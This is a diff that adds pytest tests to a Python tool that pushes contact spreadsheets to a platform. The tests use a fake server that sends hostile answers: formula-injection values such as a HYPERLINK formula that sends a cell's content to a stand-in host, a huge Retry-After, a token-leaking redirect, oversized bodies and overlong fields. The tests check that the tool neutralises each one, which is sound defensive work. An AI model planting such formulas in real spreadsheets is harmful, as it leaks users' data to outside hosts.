@@ -64,6 +64,10 @@ class _Careless(http.server.BaseHTTPRequestHandler):
 
     def _send(self, status: int, data: bytes) -> None:
         self.send_response(status)
+        if self.server.retry_after is not None:
+            self.send_header("Retry-After", self.server.retry_after)
+        if self.server.location is not None:
+            self.send_header("Location", self.server.location)
         self.send_header("Content-Type", "application/json")
         self.send_header("Content-Length", str(len(data)))
         self.end_headers()
@@ -78,6 +82,8 @@ class _CarelessServer(http.server.ThreadingHTTPServer):
 
     def __init__(self, answer: Answer) -> None:
         self.answer = answer
+        self.retry_after: str | None = None
+        self.location: str | None = None
         super().__init__(("127.0.0.1", 0), _Careless)
 
     @property
@@ -400,3 +406,126 @@ def test_a_remote_https_platform_is_still_reached_through_the_proxy(
     (heard,) = proxy.heard.lines
     assert heard.startswith("CONNECT plateforme.example:443 HTTP/1.")
     assert TOKEN not in "".join(proxy.heard.lines)
+
+
+# --- injected through what the platform says ---------------------------------------------------
+
+
+def _formulas(records: list[dict[str, object]]) -> tuple[int, str]:
+    """Ids and messages that a spreadsheet would run if they were written as they came."""
+    link = '=HYPERLINK("http://x.example/?"&A2,"clic")'
+    created = {"key": records[0]["key"], "status": "created", "id": link, "error": None}
+    refused = {
+        "key": records[1]["key"],
+        "status": "error",
+        "id": "@SUM(1)",
+        "error": {"message": "=1+1", "fields": {}},
+    }
+    return 200, json.dumps({"results": [created, refused]})
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_an_id_or_a_message_shaped_like_a_formula_is_written_as_text(
+    careless: Callable[[Answer], _CarelessServer], tmp_path: Path, kind: str
+) -> None:
+    platform = careless(_formulas)
+    path = contacts(tmp_path, kind)
+
+    done = push(path, platform.url, env_without_proxy(tmp_path))
+
+    assert done.returncode == 1, done.stderr
+    if kind == "csv":
+        said = side_file(path)
+        assert said["2"]["ID plateforme"] == '\'=HYPERLINK("http://x.example/?"&A2,"clic")'
+        assert said["3"]["ID plateforme"] == "'@SUM(1)"
+    else:
+        with zipfile.ZipFile(path) as archive:
+            sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
+        assert "<f>" not in sheet and "<f " not in sheet  # not one formula in the sheet
+        (_, created_id), (refused_status, refused_id) = status_cells(path)
+        assert created_id == '=HYPERLINK("http://x.example/?"&A2,"clic")'  # a text cell
+        assert (refused_id, refused_status) == ("@SUM(1)", "refusé : =1+1")
+
+
+def test_a_huge_retry_after_stops_the_push_at_once_instead_of_waiting_for_ever(
+    careless: Callable[[Answer], _CarelessServer], tmp_path: Path
+) -> None:
+    platform = careless(lambda records: (429, '{"error": {"code": "rate-limited"}}'))
+    platform.retry_after = "99999999999"
+    path = contacts(tmp_path, "csv")
+
+    done = push(path, platform.url, env_without_proxy(tmp_path))  # the timeout guards a hang
+
+    assert done.returncode == 1
+    assert "Traceback" not in done.stderr
+    assert "relancez la même commande" in done.stderr
+    assert all(line["Statut"] == "non envoyé" for line in side_file(path).values())
+
+
+def test_a_redirect_is_not_followed_so_the_token_goes_nowhere_else(
+    careless: Callable[[Answer], _CarelessServer], proxy: _ProxyServer, tmp_path: Path
+) -> None:
+    platform = careless(lambda records: (307, "{}"))
+    platform.location = f"{proxy.url}/records/reveal/batch"  # another port of this machine
+    path = contacts(tmp_path, "csv")
+
+    done = push(path, platform.url, env_without_proxy(tmp_path))
+
+    assert done.returncode == 1
+    assert "redirige vers une autre adresse (307)" in done.stderr
+    assert proxy.heard.lines == []  # neither the token nor the records were sent there
+
+
+# --- bounded: what a platform says cannot fill the memory, the journal or a cell ---------------
+
+
+def _enormous(records: list[dict[str, object]]) -> tuple[int, str]:
+    """Valid results, padded past what any answer to a batch needs (40 MiB)."""
+    results = [{"key": r["key"], "status": "created", "id": "1", "error": None} for r in records]
+    return 200, json.dumps({"results": results, "padding": "x" * (40 << 20)})
+
+
+def test_an_enormous_answer_is_refused_instead_of_read_whole(
+    careless: Callable[[Answer], _CarelessServer], tmp_path: Path
+) -> None:
+    platform = careless(_enormous)
+    path = contacts(tmp_path, "csv")
+
+    done = push(path, platform.url, env_without_proxy(tmp_path))
+
+    assert done.returncode == 1
+    assert "Traceback" not in done.stderr
+    assert "réponse trop volumineuse" in done.stderr
+    assert all(line["Statut"] == "non envoyé" for line in side_file(path).values())
+
+
+def _long_texts(records: list[dict[str, object]]) -> tuple[int, str]:
+    """An id and messages far longer than a cell holds (32,767 characters in Excel)."""
+    created = {"key": records[0]["key"], "status": "created", "id": "9" * 50_000, "error": None}
+    refused = {
+        "key": records[1]["key"],
+        "status": "error",
+        "id": None,
+        "error": {"message": "m" * 50_000, "fields": {"n" * 50_000: ["v" * 50_000]}},
+    }
+    return 200, json.dumps({"results": [created, refused]})
+
+
+def test_overlong_ids_and_messages_are_cut_before_the_journal_and_the_cells(
+    careless: Callable[[Answer], _CarelessServer], tmp_path: Path
+) -> None:
+    platform = careless(_long_texts)
+    path = contacts(tmp_path, "xlsx")
+
+    done = push(path, platform.url, env_without_proxy(tmp_path))
+
+    assert done.returncode == 1, done.stderr
+    (_, created_id), (refused_status, _) = status_cells(path)
+    assert 0 < len(str(created_id)) <= 255
+    assert 0 < len(str(refused_status)) <= 32_767
+    with Journal.open(tmp_path / "data" / "journal.sqlite3") as journal:
+        (entry_created, entry_refused) = journal.entries(journal.history()[0])
+    assert len(entry_created.platform_id or "") <= 255
+    assert len(entry_refused.message or "") <= 2_000
+    ((name, messages),) = entry_refused.field_errors.items()
+    assert len(name) <= 255 and all(len(m) <= 2_000 for m in messages)
